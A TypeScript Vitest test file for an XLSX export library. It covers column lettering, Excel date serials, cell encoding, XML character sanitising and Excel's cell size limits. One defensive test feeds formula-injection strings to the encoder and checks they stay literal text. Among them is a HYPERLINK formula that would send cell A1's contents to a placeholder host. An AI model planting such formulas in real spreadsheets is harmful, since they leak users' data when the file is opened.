import { describe, expect, it } from "vitest";
import { columnLetters, encodeCell, excelSerial, STYLE_DATE } from "../../../src/exports/xlsx/cell-value.js";
import {
  escapeCellText,
  MAX_CELL_CHARS,
  MAX_CELL_LINE_FEEDS,
  sanitizeXmlChars,
  TRUNCATION_MARKER,
  truncateForExcel,
} from "../../../src/exports/xlsx/xml.js";
import { readCells } from "./helpers.js";

const lf = (s: string) => s.split("\n").length - 1;

describe("columnLetters", () => {
  it.each([
    [0, "A"],
    [25, "Z"],
    [26, "AA"],
    [51, "AZ"],
    [52, "BA"],
    [701, "ZZ"],
    [702, "AAA"],
    [16_383, "XFD"],
  ])("%i → %s", (i, s) => expect(columnLetters(i)).toBe(s));

  it("refuses indices outside A…XFD", () => {
    expect(() => columnLetters(16_384)).toThrow(RangeError);
    expect(() => columnLetters(-1)).toThrow(RangeError);
  });
});

describe("excelSerial (1900 system, UTC)", () => {
  it.each([
    ["1900-01-01T00:00:00Z", 1],
    ["1900-02-28T12:00:00Z", 59.5],
    ["1900-03-01T00:00:00Z", 61],
    ["1970-01-01T00:00:00Z", 25_569],
    ["2024-02-29T06:00:00Z", 45_351.25],
  ])("%s → %d", (iso, serial) => expect(excelSerial(new Date(iso))).toBeCloseTo(serial, 9));

  it("has no serial before 1900 or for an invalid date", () => {
    expect(excelSerial(new Date("1899-12-31T00:00:00Z"))).toBeNull();
    expect(excelSerial(new Date(Number.NaN))).toBeNull();
  });
});

describe("encodeCell", () => {
  const cell = (v: Parameters<typeof encodeCell>[1]) => readCells(encodeCell("B7", v)).get("B7");

  it("types numbers, booleans and dates; never a formula", () => {
    expect(encodeCell("A1", 42.5)).toBe('<c r="A1"><v>42.5</v></c>');
    expect(encodeCell("A1", -0)).toBe('<c r="A1"><v>0</v></c>');
    expect(encodeCell("A1", true)).toBe('<c r="A1" t="b"><v>1</v></c>');
    expect(encodeCell("A1", false)).toBe('<c r="A1" t="b"><v>0</v></c>');
    expect(encodeCell("A1", new Date("1970-01-02T12:00:00Z"))).toBe(
      `<c r="A1" s="${STYLE_DATE}"><v>25570.5</v></c>`,
    );
    expect(encodeCell("A1", 1e21)).toBe('<c r="A1"><v>1e+21</v></c>');
  });

  it("marks whitespace-sensitive text xml:space=preserve, plain text not", () => {
    expect(encodeCell("A1", "Anna Lee")).toBe('<c r="A1" t="inlineStr"><is><t>Anna Lee</t></is></c>');
    for (const s of [" lead", "trail ", "two  spaces", "a\tb", "a\nb", "a\rb"]) {
      expect(encodeCell("A1", s)).toContain('<t xml:space="preserve">');
    }
  });

  it("writes empty values as no cell", () => {
    for (const v of [null, undefined, "", new Date(Number.NaN)]) expect(encodeCell("A1", v)).toBe("");
  });

  it("keeps non-finite numbers, bigints and pre-1900 dates as text", () => {
    expect(cell(Number.NaN)).toMatchObject({ t: "inlineStr", value: "NaN" });
    expect(cell(12345678901234567890n)).toMatchObject({ t: "inlineStr", value: "12345678901234567890" });
    expect(cell(new Date("1850-05-01T00:00:00Z"))).toMatchObject({ value: "1850-05-01T00:00:00.000Z" });
  });

  // docs/EXPORTS.md#names-and-cells: trigger-led values stay literal strings (no `'` prefix in
  // XLSX).
  it.each([
    '=HYPERLINK("http://x/?"&A1,"cv")',
    "+44 20 7946 0000",
    "-5",
    "@SUM(A1)",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "'already",
    "  padded  ",
    'a<b>&"c"',
    "_x0041_ literal",
    "emoji 👩‍💻 é",
  ])("round-trips %j as a literal string cell", (s) => {
    const xml = encodeCell("B7", s);
    expect(xml).not.toMatch(/<f[ >]/);
    expect(cell(s)).toMatchObject({ t: "inlineStr", value: s });
  });

  // docs/EXPORTS.md#spreadsheet-cells: documented rule — XML-illegal characters become U+FFFD, one
  // for one.
  it.each([
    ["a\u0000b", "a\uFFFDb"],
    ["\u000Bx", "\uFFFDx"],
    ["x\uFFFF\uFFFE", "x\uFFFD\uFFFD"],
    ["lone \uD800 high", "lone \uFFFD high"],
    ["lone \uDC00 low", "lone \uFFFD low"],
    ["pair 😀 kept", "pair 😀 kept"],
    ["tab\tlf\ncr\r kept", "tab\tlf\ncr\r kept"],
  ])("replaces illegal characters in %j", (input, shown) => {
    expect(sanitizeXmlChars(input)).toBe(shown);
    expect(cell(input)?.value).toBe(shown);
  });
});

describe("Excel cell limits (docs/EXPORTS.md#spreadsheet-cells)", () => {
  it("cuts a 40,000-char cell to 32,767 units ending with the marker", () => {
    const out = truncateForExcel("x".repeat(40_000));
    expect(out.length).toBe(MAX_CELL_CHARS);
    expect(out.endsWith(TRUNCATION_MARKER)).toBe(true);
  });

  it("cuts a 300-LF cell to 253 line feeds ending with the marker", () => {
    const out = truncateForExcel("line\n".repeat(300));
    expect(lf(out)).toBe(MAX_CELL_LINE_FEEDS);
    expect(out.endsWith(TRUNCATION_MARKER)).toBe(true);
    expect(out.startsWith("line\n".repeat(253))).toBe(true);
  });

  it("leaves a value at the limits untouched and never splits a surrogate pair", () => {
    const exact = "y".repeat(MAX_CELL_CHARS);
    expect(truncateForExcel(exact)).toBe(exact);
    const lfs = "\n".repeat(MAX_CELL_LINE_FEEDS);
    expect(truncateForExcel(lfs)).toBe(lfs);
    const emoji = "😀".repeat(20_000);
    const out = truncateForExcel(emoji);
    expect(out.length).toBeLessThanOrEqual(MAX_CELL_CHARS);
    expect(sanitizeXmlChars(out)).toBe(out);
  });

  it("applies the limits to the text as shown, after escaping is undone", () => {
    const xml = escapeCellText("&".repeat(40_000));
    expect(xml.startsWith("&amp;")).toBe(true);
    const shown = readCells(`<c r="A1" t="inlineStr"><is><t xml:space="preserve">${xml}</t></is></c>`);
    const v = shown.get("A1")!.value;
    expect(v.length).toBe(MAX_CELL_CHARS);
    expect(v.endsWith(TRUNCATION_MARKER)).toBe(true);
  });
});
